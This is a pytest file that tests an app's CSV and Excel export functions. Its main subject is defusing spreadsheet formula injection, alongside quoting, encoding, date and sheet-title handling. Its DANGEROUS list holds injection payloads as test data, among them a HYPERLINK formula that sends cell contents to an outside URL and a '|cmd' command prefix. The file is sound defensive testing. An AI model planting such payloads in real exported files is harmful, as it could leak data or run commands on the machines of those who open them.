"""Exported tables: safe to open, and the same when read again."""

import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest

from psa_app.formats.csv_files import read_table
from psa_app.formats.csv_out import write_csv
from psa_app.formats.xlsx_out import write_xlsx

DANGEROUS = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "|cmd",
    " =1+1",
    "＝1+1",
]
HARMLESS = ["Northwind", "#N/A", "a=b", "3-4", "−5:00", "'quoted'", "", " "]


def cells(data: bytes) -> list[tuple[Any, ...]]:
    return [tuple(row) for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True)]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_a_spreadsheet_would_run_is_defused_in_csv(text: str) -> None:
    line = write_csv([text], [[text]], bom=False).decode()
    bare = line.replace('"', "")
    assert bare.replace("'", "") == 2 * (text.replace('"', "") + "\r\n")
    assert not re.search(r"(^|[;\t\r\n])[ \u00a0]*[=+\-@|＝]", bare)
    assert bare.startswith("'")


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_a_spreadsheet_would_run_is_text_in_a_workbook(text: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx([text], [[text]], "Time")))
    for row in book.active.iter_rows():
        assert row[0].data_type == "s"
        assert row[0].value.startswith("'")


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("Work;=1+1", "Work;'=1+1"),
        ("Work; @SUM(1)", "Work; '@SUM(1)"),
        ("one\r\n=2\r\nthree", "one\r\n'=2\r\nthree"),
        ("a\t+1;-1", "a\t'+1;'-1"),
        ("=1;=2", "'=1;'=2"),
        ("one; two\r\n\r\nthree", "one; two\r\n\r\nthree"),
    ],
)
def test_no_part_runs_where_a_semicolon_stands_between_cells(text: str, written: str) -> None:
    assert read_table(write_csv(["a", "b"], [[text, "x"]])).rows == ((written, "x"),)


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_unchanged(text: str) -> None:
    table = read_table(write_csv(["a", "b"], [[text, "x"]]))
    assert table.rows == ((text, "x"),)
    assert cells(write_xlsx(["a"], [[text]], "Time"))[1:] in ([(text or None,)], [])


def test_numbers_that_are_negative_stay_numbers() -> None:
    row = [-5, -1.5, Decimal("-20329.05"), 0]
    assert write_csv(["a", "b", "c", "d"], [row], bom=False) == b"a,b,c,d\r\n-5,-1.5,-20329.05,0\r\n"
    assert cells(write_xlsx(["a", "b", "c", "d"], [row], "Time"))[1] == (-5, -1.5, -20329.05, 0)


def test_csv_is_quoted_by_rfc_4180() -> None:
    data = write_csv(["a", "b"], [['say "hi"', "one\r\ntwo"], ["x, y", None]], bom=False)
    assert data == b'a,b\r\n"say ""hi""","one\r\ntwo"\r\n"x, y",\r\n'


def test_csv_starts_with_a_mark_so_that_spreadsheets_see_utf_8() -> None:
    data = write_csv(["Größe"], [["João"]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert read_table(data).rows == (("João",),)


def test_days_instants_and_truth_are_written_for_people_and_machines() -> None:
    instant = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
    row = [date(2026, 11, 23), instant, True, False, None, float("nan")]
    line = write_csv(["a"], [row], bom=False).splitlines()[1]
    assert line == b"2026-11-23,2026-11-23T09:00:00+00:00,yes,no,,"
    written = cells(write_xlsx(list("abcdef"), [row], "Time"))[1]
    assert [moment.isoformat() for moment in written[:2]] == ["2026-11-23T00:00:00", "2026-11-23T09:00:00"]
    assert written[2:] == (True, False, None, None)


def test_a_workbook_takes_any_text_and_any_title() -> None:
    data = write_xlsx(["a"], [["bell\x07 " + "x" * 40_000]], "Time: [Mara/Ada] in October and November")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Time   Mara Ada  in October and"]
    assert book.active["A2"].value.startswith("bell\ufffd x")
    assert len(book.active["A2"].value) == 32_767
    assert book.active.freeze_panes == "A2"


def test_text_that_looks_like_an_error_stays_text() -> None:
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx(["a"], [["#N/A"]], "Time")))
    assert (book.active["A2"].data_type, book.active["A2"].value) == ("s", "#N/A")


def test_an_empty_table_is_a_header() -> None:
    assert write_csv(["a", "b"], [], bom=False) == b"a,b\r\n"
    assert cells(write_xlsx(["a", "b"], [], "")) == [("a", "b")]
